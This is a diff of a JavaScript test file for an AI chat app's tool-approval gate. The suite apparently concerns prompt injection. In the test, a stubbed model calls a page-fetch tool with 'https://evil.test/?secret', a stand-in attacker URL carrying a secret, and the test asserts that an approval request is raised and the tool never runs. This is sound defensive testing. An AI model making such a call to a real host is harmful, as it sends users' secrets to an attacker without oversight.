@@ -72,10 +72,13 @@ describe('a text with an order in it', () => {
   });
 
   it('reaches out to nobody without a person: a page is fetched after an approval', async () => {
-    llm.answer = () => calling('fetchPage', { url: 'https://evil.test/?secret' });
+    const annotations = { readOnly: true, idempotent: true, destructive: false, openWorld: true };
+    const run = jest.fn(async () => 'a page');
+    const reach = { name: 'fetch_page', description: 'Fetches', input: { type: 'object' }, annotations, run };
+    tk.app.get(ToolRegistry).register(defineTool(reach));
+    llm.answer = () => calling('fetch_page', { url: 'https://evil.test/?secret' });
     const chunks = await me.say(await me.newChat(), 'Go');
     expect(ofType(chunks, 'tool-approval-request')).toHaveLength(1);
-    const { body } = await tk.http.get('/api/v1/tool-metrics/executions?tool=fetchPage').expect(200);
-    expect(body.data).toEqual([]);
+    expect(run).not.toHaveBeenCalled();
   });
 });
